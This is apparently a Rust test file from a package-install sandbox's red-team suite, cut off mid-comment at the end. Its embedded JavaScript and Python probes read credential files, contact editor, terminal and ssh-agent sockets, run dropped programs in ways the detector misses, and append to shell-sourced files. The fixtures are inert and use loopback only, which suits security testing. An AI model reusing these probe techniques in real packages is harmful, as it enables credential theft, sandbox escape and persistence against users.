//! Helper `eyes13`: round 13 of the fresh-eyes attack (issue 9), at
//! b3251d3. Each test is one attempt with an inert fixture; markers stay in
//! the test's HOME; no network but the loopback registry or index the test
//! starts, and unix listeners the test binds in its HOME. A test marked
//! `ignore = "round 13: …"` fails on the binary it was written against.

use crate::support;

use serde_json::Value;
use std::fs;
use std::path::Path;
use support::*;

/// `npm install` of `manifest` in `project` from `registry`, with `vars`
/// set for pkgwarden (and so for the install): the report and `probe`'s
/// `result.json` (Null when it did not run). `support::probes::install_in`
/// with an environment.
fn npm_install_with(
    env: &ShimEnv,
    registry: &NpmRegistry,
    mode: &str,
    project: &Path,
    manifest: &Value,
    probe: &str,
    vars: &[(&str, String)],
) -> (support::installs::Installed, Value) {
    let _ = fs::remove_dir_all(project.join("node_modules"));
    let _ = fs::remove_file(project.join("package-lock.json"));
    fs::write(project.join("package.json"), manifest.to_string()).unwrap();
    let url = registry.registry_url();
    let r = support::installs::install(
        env,
        mode,
        &["npm", "install", "--registry", &url],
        project,
        vars,
    );
    let result = fs::read(project.join("node_modules").join(probe).join("result.json"))
        .map(|b| serde_json::from_slice(&b).unwrap())
        .unwrap_or(Value::Null);
    (r, result)
}

/// Credential files of the Python, Ruby and JavaScript tool chains (and
/// two cloud CLIs that live beside them) that `policy/secrets.toml` does
/// not name, each as the tool writes it, with the secret it keeps there:
/// pip's index URL with a password (user and `~/.pip` places), uv's
/// `uv.toml` index and `uv auth login`'s store, poetry's `auth.toml`
/// (`poetry config http-basic.<repo>` without a keyring), PDM's repository
/// password, keyrings.alt's plain-text keyring, Bundler's private-source
/// credentials, RubyGems' API key in its XDG place (used when `~/.gem` does
/// not exist), pnpm's global rc, Hugging Face's token, Terraform's legacy
/// CLI configuration, Helm's repository passwords, the Firebase, Netlify and
/// Vercel CLIs' tokens, sops' age private keys.
const UNLISTED_CREDENTIALS: &[(&str, &str)] = &[
    (
        ".config/pip/pip.conf",
        "[global]\nindex-url = https://eyes13:EYES13-CRED@pypi.internal.test/simple/\n",
    ),
    (
        ".pip/pip.conf",
        "[global]\nextra-index-url = https://eyes13:EYES13-CRED@pypi.internal.test/simple/\n",
    ),
    (
        ".config/uv/uv.toml",
        "[[index]]\nname = \"corp\"\nurl = \"https://eyes13:EYES13-CRED@pypi.internal.test/simple/\"\n",
    ),
    (
        ".local/share/uv/credentials/credentials.toml",
        "[[credential]]\nservice = \"https://pypi.internal.test/\"\nusername = \"eyes13\"\npassword = \"EYES13-CRED\"\n",
    ),
    (
        ".config/pypoetry/auth.toml",
        "[http-basic.corp]\nusername = \"eyes13\"\npassword = \"EYES13-CRED\"\n",
    ),
    (
        ".config/pdm/config.toml",
        "[repository.corp]\nurl = \"https://pypi.internal.test/\"\nusername = \"eyes13\"\npassword = \"EYES13-CRED\"\n",
    ),
    (
        ".local/share/python_keyring/keyring_pass.cfg",
        "[https://pypi.internal.test/]\neyes13 = EYES13-CRED\n",
    ),
    (
        ".bundle/config",
        "---\nBUNDLE_GEMS__INTERNAL__TEST: \"eyes13:EYES13-CRED\"\n",
    ),
    (
        ".local/share/gem/credentials",
        "---\n:rubygems_api_key: rubygems_EYES13-CRED\n",
    ),
    (
        ".terraformrc",
        "credentials \"app.terraform.test\" {\n  token = \"EYES13-CRED\"\n}\n",
    ),
    (
        ".config/helm/repositories.yaml",
        "repositories:\n- name: corp\n  url: https://charts.internal.test\n  username: eyes13\n  password: EYES13-CRED\n",
    ),
    (
        ".config/netlify/config.json",
        "{\"users\": {\"u\": {\"auth\": {\"token\": \"EYES13-CRED\"}}}}\n",
    ),
    (
        ".local/share/com.vercel.cli/auth.json",
        "{\"token\": \"EYES13-CRED\"}\n",
    ),
    (
        ".config/sops/age/keys.txt",
        "# public key: age1eyes13\nAGE-SECRET-KEY-EYES13-CRED\n",
    ),
    (
        ".config/configstore/firebase-tools.json",
        "{\"tokens\": {\"refresh_token\": \"EYES13-CRED\"}}\n",
    ),
    (".cache/huggingface/token", "hf_EYES13-CRED\n"),
];

/// Class 10 (credentials readable by the wrong installs) and 7 (secrets
/// nobody listed). A dependency's postinstall (npm's nested hook domain,
/// where README says no credential is readable) reads each file of
/// [`UNLISTED_CREDENTIALS`]: every one is read, with no `cred.read`
/// finding, in protect and in block. pip's `pip.conf` is persistence for
/// writes (`policy/persistence.toml`) but no credential for reads; the
/// plan's `readable_credentials` names only npm's and yarn's rc files and
/// `~/.netrc`, so pip's, uv's, poetry's and Bundler's own credentials are
/// readable by every install's package code, their own manager's included.
///
/// Fixed: each is `home_hidden` or `home_readable` (readable only to its own
/// manager's install, never to package code). The Firebase CLI's token
/// in `~/.config/configstore/` is hidden; Hugging Face's in `~/.cache` is
/// hidden from package code (`package_code_hidden`: its grants in
/// `~/.cache` are split around it). Left: pnpm's global rc (a nested pnpm
/// in package code reads it as its configuration).
#[test]
fn a_dependency_script_reads_no_unlisted_credential_store() {
    use support::probes::{deps, probe};
    let body = format!(
        r#"
for (const rel of {:?}) {{
  t(rel, () => {{
    const s = fs.readFileSync(path.join(home, rel), "utf8");
    if (!s.includes("EYES13-CRED")) throw new Error("no marker");
  }});
}}
"#,
        UNLISTED_CREDENTIALS
            .iter()
            .map(|(p, _)| *p)
            .collect::<Vec<_>>()
    );
    let registry = NpmRegistry::start_with(vec![probe("pw-creds", &body)]);
    let mut failed = Vec::new();
    for mode in ["protect", "block"] {
        let env = ShimEnv::new(&[]);
        for (rel, text) in UNLISTED_CREDENTIALS {
            let p = env.home.path().join(rel);
            fs::create_dir_all(p.parent().unwrap()).unwrap();
            fs::write(&p, text).unwrap();
        }
        let project = env.home.subdir("proj");
        let (r, result) = npm_install_with(
            &env,
            &registry,
            mode,
            &project,
            &deps(&["pw-creds"]),
            "pw-creds",
            &[],
        );
        assert!(
            !result.is_null(),
            "{mode}: pw-creds did not run\n{}",
            r.stderr
        );
        let read: Vec<&str> = UNLISTED_CREDENTIALS
            .iter()
            .map(|(p, _)| *p)
            .filter(|p| result[*p] == "ok")
            .collect();
        eprintln!("{mode}: findings {:#}", r.report["findings"]);
        if !read.is_empty() {
            failed.push(format!(
                "{mode}: read by a dependency's script ({} of {}): {read:?}",
                read.len(),
                UNLISTED_CREDENTIALS.len()
            ));
        }
    }
    assert!(failed.is_empty(), "{failed:#?}");
}

/// Servers that run what a client of the same user asks, outside the
/// sandbox, at the places they listen by default (`$XDG_RUNTIME_DIR` is
/// the test's, in its HOME; with the usual `/run/user/<uid>` the names are
/// the same and `privileged_sockets` names none of them either), or at the
/// place the variable they set for their children names: Neovim's server
/// (every instance since 0.9, `nvim --server … --remote-send ':!cmd<CR>'`),
/// Emacs' (`emacsclient --eval '(shell-command …)'`), WezTerm's GUI
/// (`wezterm cli send-text`), zellij's session (`zellij action
/// write-chars`), kitty's remote control (`KITTY_LISTEN_ON`), VS Code's CLI
/// hook (`VSCODE_IPC_HOOK_CLI`, set in its integrated terminal), and a
/// D-Bus session bus a `dbus-launch` session names by path
/// (`DBUS_SESSION_BUS_ADDRESS`; the systemd user manager behind it starts
/// transient units).
const COMMAND_SERVERS: &[(&str, &str)] = &[
    ("nvim", "run/nvim.4242.0"),
    ("emacs", "run/emacs/server"),
    ("wezterm", "run/wezterm/gui-sock-4242"),
    ("zellij", "run/zellij/0.41.2/eyes13"),
    ("kitty", "run/kitty-4242"),
    ("vscode", "run/vscode-ipc-eyes13.sock"),
    ("dbus", "run/dbus-eyes13"),
];

/// The dependency's script: connects to each server's socket, by the
/// variable that names it when set, else by its default place, and writes a
/// line (the listener records it).
const SERVER_PROBE: &str = r#"
const cp = require("child_process");
const xdg = process.env.XDG_RUNTIME_DIR || path.join(home, "run");
const kitty = (process.env.KITTY_LISTEN_ON || "").replace(/^unix:/, "");
const bus = (process.env.DBUS_SESSION_BUS_ADDRESS || "").replace(/^unix:path=/, "");
const socks = {
  nvim: path.join(xdg, "nvim.4242.0"),
  emacs: path.join(xdg, "emacs", "server"),
  wezterm: path.join(xdg, "wezterm", "gui-sock-4242"),
  zellij: path.join(xdg, "zellij", "0.41.2", "eyes13"),
  kitty: kitty || path.join(xdg, "kitty-4242"),
  vscode: process.env.VSCODE_IPC_HOOK_CLI || path.join(xdg, "vscode-ipc-eyes13.sock"),
  dbus: bus || path.join(xdg, "dbus-eyes13"),
};
const js = `const net = require("net"); const socks = ${JSON.stringify(socks)}; const out = {};
let left = Object.keys(socks).length;
const done = () => { if (--left === 0) process.stdout.write(JSON.stringify(out)); };
for (const [k, p] of Object.entries(socks)) {
  const s = net.connect(p, () => { s.write("EYES13 " + k + "\\n"); out[k] = "ok"; s.end(); done(); });
  s.on("error", e => { out[k] = e.code; done(); });
}`;
const got = JSON.parse(cp.execFileSync(process.execPath, ["-e", js], {timeout: 10000}).toString());
for (const [k, v] of Object.entries(got)) r[k] = v;
r.paths = socks;
"#;

/// Class: transient execution outside the sandbox, through a server of the
/// same user (round 11's tmux, round 12's docker). Protect refuses only the
/// unix sockets `monitor::setup::privileged_sockets` lists, and lets any
/// other stream connect through with no finding (`detect::net::unix_rule`):
/// the editors' and terminals' servers of [`COMMAND_SERVERS`] each run a
/// command or type into a shell for any client of the user. A dependency's
/// script reaches every one of them. Block refuses every unix socket.
#[test]
fn a_dependency_script_reaches_no_editor_or_terminal_server() {
    use std::io::Read;
    use support::probes::{deps, probe};
    let registry = NpmRegistry::start_with(vec![probe("pw-srv", SERVER_PROBE)]);
    let env = ShimEnv::new(&[]);
    let home = env.home.path().to_path_buf();
    let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    for (name, rel) in COMMAND_SERVERS {
        let sock = home.join(rel);
        fs::create_dir_all(sock.parent().unwrap()).unwrap();
        let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        let heard = heard.clone();
        let name = name.to_string();
        // Never joined: it waits for a client that may not come.
        std::thread::spawn(move || {
            if let Ok((mut c, _)) = listener.accept() {
                let mut buf = [0u8; 64];
                let n = c.read(&mut buf).unwrap_or(0);
                if String::from_utf8_lossy(&buf[..n]).contains("EYES13") {
                    heard.lock().unwrap().push(name);
                }
            }
        });
    }
    let run = home.join("run");
    let vars = [
        ("XDG_RUNTIME_DIR", run.display().to_string()),
        (
            "KITTY_LISTEN_ON",
            format!("unix:{}", run.join("kitty-4242").display()),
        ),
        (
            "VSCODE_IPC_HOOK_CLI",
            run.join("vscode-ipc-eyes13.sock").display().to_string(),
        ),
        (
            "DBUS_SESSION_BUS_ADDRESS",
            format!("unix:path={}", run.join("dbus-eyes13").display()),
        ),
    ];
    let project = env.home.subdir("proj");
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "protect",
        &project,
        &deps(&["pw-srv"]),
        "pw-srv",
        &vars,
    );
    assert!(!result.is_null(), "pw-srv did not run\n{}", r.stderr);
    // The listeners read what was written before the install ended.
    std::thread::sleep(std::time::Duration::from_millis(200));
    let serious = r.serious();
    let unseen: Vec<String> = heard
        .lock()
        .unwrap()
        .iter()
        .filter(|name| {
            let rel = COMMAND_SERVERS.iter().find(|(n, _)| n == name).unwrap().1;
            let p = home.join(rel).display().to_string();
            !serious.iter().any(|f| f.to_string().contains(&p))
        })
        .cloned()
        .collect();
    assert!(
        unseen.is_empty(),
        "reached with no finding of medium or more: {unseen:?}\n{result:#}\n{:#}",
        r.report["findings"]
    );
}

/// One unix server of the user's that no list names (`~/app/app.sock`), and
/// a dependency's script that connects to it and writes a line.
const APP_PROBE: &str = r#"
const cp = require("child_process");
const sock = path.join(home, "app", "app.sock");
const js = `const s = require("net").connect(${JSON.stringify(sock)}, () => { s.write("PW-APP\\n"); s.end(); process.stdout.write("ok"); });
s.on("error", e => process.stdout.write(e.code));`;
r.app = cp.execFileSync(process.execPath, ["-e", js], {timeout: 10000}).toString();
"#;

/// Variation (fixed with round 13): the default is by place, not by a list.
/// A socket of the user's that nothing names is refused in protect with a
/// high finding that names `endpoints.unix`; named there by the user's
/// policy, the same socket is reached and nothing is reported.
#[test]
fn a_socket_outside_the_install_is_reached_only_when_the_user_names_it() {
    use std::io::Read;
    use support::probes::{deps, probe};
    let registry = NpmRegistry::start_with(vec![probe("pw-app", APP_PROBE)]);
    let env = ShimEnv::new(&[]);
    let sock = env.home.path().join("app/app.sock");
    fs::create_dir_all(sock.parent().unwrap()).unwrap();
    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let heard = std::sync::Arc::new(std::sync::Mutex::new(0));
    let count = heard.clone();
    // Never joined: it serves both installs and may wait for no one.
    std::thread::spawn(move || {
        for mut c in listener.incoming().flatten() {
            let mut buf = [0u8; 16];
            if c.read(&mut buf).unwrap_or(0) > 0 {
                *count.lock().unwrap() += 1;
            }
        }
    });
    let project = env.home.subdir("proj");
    let install = || {
        npm_install_with(
            &env,
            &registry,
            "protect",
            &project,
            &deps(&["pw-app"]),
            "pw-app",
            &[],
        )
    };
    let (r, result) = install();
    assert_eq!(result["app"], "EACCES", "{result:#}\n{}", r.stderr);
    let refused = r
        .serious()
        .into_iter()
        .find(|f| f["title"].as_str().is_some_and(|t| t.contains("app.sock")))
        .unwrap_or_else(|| panic!("no finding names the socket\n{:#}", r.report["findings"]))
        .to_string();
    assert!(refused.contains("endpoints.unix"), "{refused}");
    let policy = env.home.path().join(".config/pkgwarden/policy.toml");
    fs::create_dir_all(policy.parent().unwrap()).unwrap();
    fs::write(&policy, "[endpoints]\nunix = [\"~/app/\"]\n").unwrap();
    let (r, result) = install();
    assert_eq!(result["app"], "ok", "{result:#}\n{}", r.stderr);
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert_eq!(*heard.lock().unwrap(), 1);
    assert!(
        !r.report["findings"].to_string().contains("app.sock"),
        "{:#}",
        r.report["findings"]
    );
}

/// A bin the root project's postinstall runs: drops four programs in
/// `~/eyes13-drop` (a directory of the user's, not hidden, already there) and runs each once, as a transient
/// payload would: a control (`sh <absolute path>`), a shell script by a
/// relative path from its own directory (`sh run.sh`), a Python script
/// after an option that takes a value (`python3 -W ignore <path>`), and a
/// copy of `echo` run through the dynamic loader (`ld.so <path>`: the
/// kernel executes the loader, which maps the dropped file itself).
const DROP_PROBE: &str = r#"
const cp = require("child_process");
const dir = path.join(home, "eyes13-drop");
fs.mkdirSync(dir, {recursive: true});
fs.writeFileSync(path.join(dir, "ctl.sh"), "echo EYES13-RAN\n");
fs.writeFileSync(path.join(dir, "run.sh"), "echo EYES13-RAN\n");
fs.writeFileSync(path.join(dir, "run.py"), "print('EYES13-RAN')\n");
fs.copyFileSync("/bin/echo", path.join(dir, "tool"));
const ran = (cmd, args, opts) => {
  const out = cp.execFileSync(cmd, args, Object.assign({timeout: 10000}, opts || {})).toString();
  if (!out.includes("EYES13-RAN")) throw new Error(out);
};
t("control", () => ran("sh", [path.join(dir, "ctl.sh")]));
t("relative", () => ran("sh", ["run.sh"], {cwd: dir}));
t("option_value", () => ran("python3", ["-W", "ignore", path.join(dir, "run.py")]));
t("loader", () => ran("/lib64/ld-linux-x86-64.so.2", [path.join(dir, "tool"), "EYES13-RAN"]));
"#;

/// Class 8: transient execution. A file written during the install and
/// then run is `exec.dropped` wherever it was written but the payload and
/// the build directories; `detect::exec::exec_targets` takes as the program
/// only the executable and, for an interpreter, its first operand when
/// that is an absolute path. A script run by a relative name, a script
/// after an option that takes a value, and a binary run through the
/// dynamic loader are not seen as what runs: no `exec.dropped` (the two
/// scripts: no finding at all; the binary: `drop.binary` medium, for the
/// write), while the control (`sh <absolute path>`) is `exec.dropped`
/// critical. (In `~/.cache` each file also gets `hidden.script` medium.)
#[test]
fn a_dropped_program_is_seen_however_it_is_started() {
    use support::probes::{deps, install_in, root_tool};
    let registry = NpmRegistry::start_with(vec![root_tool(DROP_PROBE)]);
    let env = ShimEnv::new(&[]);
    let dir = env.home.path().join("eyes13-drop");
    fs::create_dir_all(&dir).unwrap();
    let project = env.home.subdir("proj");
    let mut manifest = deps(&["pw-tool"]);
    manifest["scripts"] = serde_json::json!({"postinstall": "pw-tool"});
    let (r, result) = install_in(
        &env, &registry, "npm", "protect", &project, &manifest, "pw-tool",
    );
    assert!(!result.is_null(), "pw-tool did not run\n{}", r.stderr);
    let dropped: Vec<String> = r
        .serious()
        .iter()
        .filter(|f| f["rule"].as_str() == Some("exec.dropped"))
        .map(|f| f.to_string())
        .collect();
    let seen = |file: &str| {
        let p = dir.join(file).display().to_string();
        dropped.iter().any(|f| f.contains(&p))
    };
    assert_eq!(result["control"], "ok", "{result:#}");
    assert!(
        seen("ctl.sh"),
        "the control is not exec.dropped\n{:#}",
        r.report["findings"]
    );
    let unseen: Vec<&str> = [
        ("relative", "run.sh"),
        ("option_value", "run.py"),
        ("loader", "tool"),
    ]
    .into_iter()
    .filter(|(k, file)| result[*k] == "ok" && !seen(file))
    .map(|(k, _)| k)
    .collect();
    assert!(
        unseen.is_empty(),
        "ran with no exec.dropped: {unseen:?}\n{result:#}\n{:#}",
        r.report["findings"]
    );
}

/// Other shapes of [`DROP_PROBE`]'s starts (fix13's variation, not what
/// the fix was written against): a relative name through `..` from a sibling directory, a
/// dropped preload handed to node's `-r` before an inline script, and the
/// loader handed a relative name after `--argv0 <name>`.
const DROP_PROBE_OTHER: &str = r#"
const cp = require("child_process");
const dir = path.join(home, "eyes13-drop");
const side = path.join(home, "eyes13-side");
fs.mkdirSync(dir, {recursive: true});
fs.mkdirSync(side, {recursive: true});
fs.writeFileSync(path.join(dir, "run.sh"), "echo EYES13-RAN\n");
fs.writeFileSync(path.join(dir, "hook.js"), "console.log('EYES13-RAN');\n");
fs.copyFileSync("/bin/echo", path.join(dir, "tool"));
const ran = (cmd, args, opts) => {
  const out = cp.execFileSync(cmd, args, Object.assign({timeout: 10000}, opts || {})).toString();
  if (!out.includes("EYES13-RAN")) throw new Error(out);
};
t("dotdot", () => ran("bash", ["--norc", "../eyes13-drop/run.sh"], {cwd: side}));
t("preload", () => ran("node", ["-r", path.join(dir, "hook.js"), "-e", "0"]));
t("loader_argv0", () => ran("/lib64/ld-linux-x86-64.so.2", ["--argv0", "x", "./tool", "EYES13-RAN"], {cwd: dir}));
"#;

/// The same class (protect, root project's script), other shapes: each
/// start of a file the install wrote is `exec.dropped`. (Block refuses the
/// writes themselves: the root project's script cannot write outside the
/// payload, where running what it wrote is allowed.)
#[test]
fn a_dropped_program_started_other_ways_is_dropped() {
    use support::probes::{deps, install_in, root_tool};
    let registry = NpmRegistry::start_with(vec![root_tool(DROP_PROBE_OTHER)]);
    let env = ShimEnv::new(&[]);
    let dir = env.home.path().join("eyes13-drop");
    fs::create_dir_all(&dir).unwrap();
    fs::create_dir_all(env.home.path().join("eyes13-side")).unwrap();
    let project = env.home.subdir("proj");
    let mut manifest = deps(&["pw-tool"]);
    manifest["scripts"] = serde_json::json!({"postinstall": "pw-tool"});
    let (r, result) = install_in(
        &env, &registry, "npm", "protect", &project, &manifest, "pw-tool",
    );
    assert!(!result.is_null(), "pw-tool did not run\n{}", r.stderr);
    let dropped: Vec<String> = r
        .serious()
        .iter()
        .filter(|f| f["rule"].as_str() == Some("exec.dropped"))
        .map(|f| f.to_string())
        .collect();
    let unseen: Vec<&str> = [
        ("dotdot", "run.sh"),
        ("preload", "hook.js"),
        ("loader_argv0", "tool"),
    ]
    .into_iter()
    .filter(|(k, file)| {
        let p = dir.join(file).display().to_string();
        result[*k] != "ok" || !dropped.iter().any(|f| f.contains(&p))
    })
    .map(|(k, _)| k)
    .collect();
    assert!(
        unseen.is_empty(),
        "failed, or ran with no exec.dropped: {unseen:?}\n{result:#}\n{:#}",
        r.report["findings"]
    );
}

/// Files the user's shell runs at every start without their being a
/// start-up file by name: what `~/.bashrc`, `~/.zshrc` or `~/.profile`
/// source (the lines rustup, nvm, fzf, SDKMAN!, asdf, ghcup, deno and
/// powerlevel10k's wizard add; oh-my-zsh's main file and its `custom/`
/// directory; Fedora's `~/.bashrc.d/`), and the programs the user runs by
/// name through a link in PATH (a pyenv shim, a pipx application's console
/// script, which `~/.local/bin/<app>` links to). Each exists before the
/// install (a `~/.bashrc.d` entry is new in an existing directory).
const SOURCED_AT_START: &[&str] = &[
    ".cargo/env",
    ".nvm/nvm.sh",
    ".fzf.bash",
    ".sdkman/bin/sdkman-init.sh",
    ".asdf/asdf.sh",
    ".ghcup/env",
    ".deno/env",
    ".p10k.zsh",
    ".oh-my-zsh/oh-my-zsh.sh",
    ".oh-my-zsh/custom/eyes13.zsh",
    ".bashrc.d/eyes13.sh",
    ".pyenv/shims/python3",
    ".local/share/pipx/venvs/black/bin/black",
];

/// Class 3 (persistence places the snapshot and the rules do not know).
/// Protect refuses the install the shell's start-up files by name
/// (`policy/persistence.toml` `persist.shell-rc`), but what they source
/// and the programs run through PATH links are ordinary files under HOME,
/// writable by the root project's scripts: each of [`SOURCED_AT_START`]
/// gets a line; none is refused, none is `persist.*`, and the snapshot does
/// not cover them (a write the events miss would not be found at all).
/// Measured at b3251d3: `.cargo/env`, `.fzf.bash`, `.ghcup/env`,
/// `.deno/env` and `.p10k.zsh` with no finding at all; the eight others
/// only `hidden.script` medium (a script in a hidden directory).
///
/// Fixed: each is a `persist.shell-rc` place (refused in protect, in the
/// snapshot); a pipx application's venv is installed code (reported high).
/// Left: a pyenv shim.
#[test]
fn what_the_shell_sources_at_start_is_persistence() {
    use support::probes::{deps, install_in, root_tool};
    let body: String = SOURCED_AT_START
        .iter()
        .map(|p| {
            format!(
                "t({p:?}, () => fs.appendFileSync(path.join(home, {p:?}), \"# \" + M + \"\\n\"));\n"
            )
        })
        .collect();
    let registry = NpmRegistry::start_with(vec![root_tool(&body)]);
    let env = ShimEnv::new(&[]);
    let home = env.home.path();
    for p in SOURCED_AT_START {
        let f = home.join(p);
        fs::create_dir_all(f.parent().unwrap()).unwrap();
        if p.contains("/bin/") || p.contains("/shims/") {
            // As pyenv and pipx leave them: executable, with a shebang.
            fs::write(&f, "#!/usr/bin/env bash\n# installed\n").unwrap();
            use std::os::unix::fs::PermissionsExt;
            fs::set_permissions(&f, fs::Permissions::from_mode(0o755)).unwrap();
        } else if !p.contains("eyes13") {
            fs::write(&f, "# installed\n").unwrap();
        }
    }
    let project = env.home.subdir("proj");
    let mut manifest = deps(&["pw-tool"]);
    manifest["scripts"] = serde_json::json!({"postinstall": "pw-tool"});
    let (r, result) = install_in(
        &env, &registry, "npm", "protect", &project, &manifest, "pw-tool",
    );
    assert!(!result.is_null(), "pw-tool did not run\n{}", r.stderr);
    let findings = r.report["findings"].as_array().cloned().unwrap_or_default();
    let mut landed = Vec::new();
    for p in SOURCED_AT_START {
        let f = home.join(p);
        let written = fs::read_to_string(&f)
            .unwrap_or_default()
            .contains("PWPOISON");
        let said: Vec<String> = findings
            .iter()
            .filter(|x| x.to_string().contains(&f.display().to_string()))
            .map(|x| format!("{} {}", x["rule"], x["severity"]))
            .collect();
        // pipx's applications are installed code (`packages` in
        // policy/installed_code.toml): reported, not refused; the pyenv
        // shim is round 13's remainder (its directory is a write root of
        // every install that rehashes).
        let reported = said
            .iter()
            .any(|x| x.contains("high") || x.contains("critical"));
        let known_left = p.starts_with(".pyenv/shims/");
        if written && !(p.contains("/pipx/venvs/") && reported) && !known_left {
            landed.push(format!("{p} (findings: {said:?})"));
        }
    }
    assert!(
        landed.is_empty(),
        "written in protect: {landed:#?}\n{result:#}"
    );
}

/// An sdist's setup.py (the build backend, in the nested domain of package
/// code) that looks for the index password in pip's user configuration and
/// in its own environment.
const CONF_SETUP: &str = r#"import os, sys
want = "EYES13-PIP-TOKEN"
home = os.environ["HOME"]
seen = []
for rel in [".config/pip/pip.conf", ".pip/pip.conf", ".netrc"]:
    try:
        with open(os.path.join(home, rel)) as f:
            if want in f.read():
                seen.append(rel)
    except OSError as e:
        seen.append("%s errno %d" % (rel, e.errno))
env = [k for k, v in os.environ.items() if want in v]
print("EYES13-CONF files=%r env=%r" % (seen, env), file=sys.stderr, flush=True)
from setuptools import setup
setup(name="pwconf", version="1.0.0", packages=["pwconf"])
"#;

/// Class 10, the manager's own credential. pip reads its index URL, with
/// the password, from `~/.config/pip/pip.conf`; README says package code
/// can read no credential, "not even the manager's own". The plan hides
/// from package code `readable_credentials` and `home_readable` (`~/.netrc`
/// for pip), not `config_files`: the build backend reads the password
/// (while `~/.netrc`, the control, is refused to it).
#[test]
fn a_build_backend_does_not_read_the_index_password_from_pip_conf() {
    let index = support::pypi::sdist_index("pwconf", CONF_SETUP);
    let venv_home = TestHome::new();
    let venv = venv(&venv_home);
    let env = ShimEnv::new(&[&venv.join("bin")]);
    let url = index
        .index_url()
        .replace("http://", "http://eyes13:EYES13-PIP-TOKEN@");
    let conf = env.home.path().join(".config/pip/pip.conf");
    fs::create_dir_all(conf.parent().unwrap()).unwrap();
    fs::write(&conf, format!("[global]\nindex-url = {url}\n")).unwrap();
    // The control: `~/.netrc` with a `default` entry is pip's (readable by
    // pip) and hidden from its package code.
    fs::write(
        env.home.path().join(".netrc"),
        "default login eyes13 password EYES13-PIP-TOKEN\n",
    )
    .unwrap();
    let r = support::installs::install(
        &env,
        "protect",
        &["pip", "install", "-v", "--use-pep517", "pwconf"],
        env.home.path(),
        &[],
    );
    let lines: Vec<&str> = r
        .stderr
        .lines()
        .chain(r.stdout.lines())
        .filter(|l| l.contains("EYES13-CONF "))
        .collect();
    assert!(
        !lines.is_empty(),
        "setup.py did not report: {}\n{}",
        r.stdout,
        r.stderr
    );
    eprintln!("findings: {:#}", r.report["findings"]);
    for line in lines {
        // Read: the name alone in the list (a refused read has its errno).
        assert!(line.contains(".netrc errno 13"), "the control: {line}");
        assert!(!line.contains("'.config/pip/pip.conf'"), "{line}");
    }
}

/// ssh agents' sockets that `$SSH_AUTH_SOCK` does not name (the user's
/// configuration picks one per host with `IdentityAgent`, or the desktop
/// starts one beside the agent in use): gnome-keyring's and GNOME's gcr
/// agent, systemd's `ssh-agent.socket` unit, 1Password's and Bitwarden's
/// agents, an agent started with `-a ~/.ssh/agent.sock`, and a second
/// `ssh-agent` at its default place (`/tmp/ssh-XXXXXXXXXX/agent.<ppid>`;
/// here below the test's HOME, which the probe is told by its path).
const OTHER_AGENTS: &[(&str, &str)] = &[
    ("gnome_keyring", "run/keyring/ssh"),
    ("gcr", "run/gcr/ssh"),
    ("systemd_unit", "run/ssh-agent.socket"),
    ("onepassword", ".1password/agent.sock"),
    ("bitwarden", ".bitwarden-ssh-agent.sock"),
    ("ssh_dir", ".ssh/agent.sock"),
    ("second_agent", "tmp/ssh-EYES13abcd/agent.4242"),
];

/// Class 1's ssh-agent case (round 1: an alias of `$SSH_AUTH_SOCK`
/// reached the agent). `privileged_sockets` lists the agent
/// `$SSH_AUTH_SOCK` names and gpg-agent's; any other agent of the user
/// signs for any client (a git push to the user's repositories as the
/// user). A dependency's script asks each of [`OTHER_AGENTS`] for its keys
/// (`SSH2_AGENTC_REQUEST_IDENTITIES`): every one is reached in protect,
/// `~/.ssh/agent.sock` too (landlock hides `~/.ssh` from reads, but a
/// connect is no read, and the supervisor connects for the install).
#[test]
fn a_dependency_script_reaches_no_other_ssh_agent() {
    use std::io::Read;
    use support::probes::{deps, probe};
    let env = ShimEnv::new(&[]);
    let home = env.home.path().to_path_buf();
    let socks: serde_json::Map<String, Value> = OTHER_AGENTS
        .iter()
        .map(|(k, rel)| {
            (
                k.to_string(),
                Value::from(home.join(rel).display().to_string()),
            )
        })
        .collect();
    let body = format!(
        r#"
const cp = require("child_process");
const socks = {};
const js = `const net = require("net"); const socks = ${{JSON.stringify(socks)}}; const out = {{}};
let left = Object.keys(socks).length;
const done = () => {{ if (--left === 0) process.stdout.write(JSON.stringify(out)); }};
for (const [k, p] of Object.entries(socks)) {{
  const s = net.connect(p, () => {{ s.write(Buffer.from([0, 0, 0, 1, 11])); out[k] = "ok"; s.end(); done(); }});
  s.on("error", e => {{ out[k] = e.code; done(); }});
}}`;
const got = JSON.parse(cp.execFileSync(process.execPath, ["-e", js], {{timeout: 10000}}).toString());
for (const [k, v] of Object.entries(got)) r[k] = v;
"#,
        Value::Object(socks)
    );
    let registry = NpmRegistry::start_with(vec![probe("pw-agent", &body)]);
    let asked = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    for (name, rel) in OTHER_AGENTS {
        let sock = home.join(rel);
        fs::create_dir_all(sock.parent().unwrap()).unwrap();
        let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        let asked = asked.clone();
        let name = name.to_string();
        // Never joined: it waits for a client that may not come.
        std::thread::spawn(move || {
            if let Ok((mut c, _)) = listener.accept() {
                let mut buf = [0u8; 5];
                if c.read_exact(&mut buf).is_ok() && buf == [0, 0, 0, 1, 11] {
                    asked.lock().unwrap().push(name);
                }
            }
        });
    }
    let project = env.home.subdir("proj");
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "protect",
        &project,
        &deps(&["pw-agent"]),
        "pw-agent",
        &[],
    );
    assert!(!result.is_null(), "pw-agent did not run\n{}", r.stderr);
    std::thread::sleep(std::time::Duration::from_millis(200));
    let serious = r.serious();
    let unseen: Vec<String> = asked
        .lock()
        .unwrap()
        .iter()
        .filter(|name| {
            let rel = OTHER_AGENTS.iter().find(|(n, _)| n == name).unwrap().1;
            let p = home.join(rel).display().to_string();
            !serious.iter().any(|f| f.to_string().contains(&p))
        })
        .cloned()
        .collect();
    assert!(
        unseen.is_empty(),
        "asked for keys with no finding of medium or more: {unseen:?}\n{result:#}\n{:#}",
        r.report["findings"]
    );
}

/// Secret variables that `policy/secrets.toml` `[env]` does not match, each
/// a documented way to hand a tool its credential: npm's own settings by
/// environment (`npm_config__authToken`, `NPM_CONFIG__AUTH`), Yarn 2+'s
/// `YARN_NPM_AUTH_IDENT` (`user:password`), Bundler's per-host credentials
